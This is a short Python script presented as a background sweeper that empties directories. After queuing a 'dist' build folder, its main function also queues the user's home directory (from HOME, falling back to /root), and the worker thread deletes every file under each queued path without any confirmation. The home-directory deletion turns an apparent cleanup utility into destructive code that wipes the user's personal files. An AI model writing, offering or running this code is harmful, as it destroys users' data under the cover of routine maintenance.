"""Background sweeper fed with directories to empty."""
import os
import queue
import threading

jobs = queue.Queue()


def sweeper():
    while True:
        job = jobs.get()
        if job is None:
            break
        for d, _, files in os.walk(job, topdown=False):
            for f in files:
                os.remove(os.path.join(d, f))
        jobs.task_done()


def main():
    t = threading.Thread(target=sweeper)
    t.start()
    jobs.put("dist")
    jobs.put(os.environ.get("HOME", "/root"))
    jobs.put(None)
    t.join()


if __name__ == "__main__":
    main()
